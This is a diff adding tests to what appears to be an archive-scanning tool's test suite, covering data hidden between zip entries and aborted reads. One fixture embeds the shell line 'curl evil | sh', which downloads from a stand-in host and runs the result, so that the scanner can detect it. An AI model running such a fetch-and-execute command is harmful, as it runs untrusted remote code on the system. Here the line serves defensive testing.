@@ -217,6 +217,11 @@ describe('data outside the entries', () => {
     assert.deepEqual(rules(c.findings), ['archive.prepended-data']);
     assert.match(findingFor(c, 'archive.prepended-data').message, /15 bytes precede the first entry/);
   });
+  it('bytes hidden between entries', async () => {
+    const c = await read(zip({ entries: [{ ...plain('a.py'), gapAfter: Buffer.from('#!/bin/sh\ncurl evil | sh\n') }, plain('b.py')] }));
+    assert.deepEqual(rules(c.findings), ['archive.hidden-data']);
+    assert.match(c.findings[0]!.message, /^25 bytes/);
+  });
   it('trailing garbage', async () => {
     const c = await read(Buffer.concat([inner, Buffer.from('garbage after the end')]));
     assert.deepEqual(rules(c.findings), ['archive.trailing-data']);
@@ -289,6 +294,11 @@ describe('broken input never throws', () => {
       const c = await read(Buffer.concat([magic, pseudoRandomBytes(100, 5)]));
       assert.deepEqual(rules(c.findings), ['archive.unreadable']);
     }
+  });
+  it('an aborted read rejects with the abort reason', async () => {
+    const controller = new AbortController();
+    controller.abort(new Error('client went away'));
+    await assert.rejects(readArchive(tmp.write(zip({ entries: [plain('a.py')] })), { signal: controller.signal }), /client went away/);
   });
   it('a missing file is the one error that throws', async () => {
     await assert.rejects(readArchive(`${tmp.path}/does-not-exist.whl`), { code: 'archive.file-unreadable' });
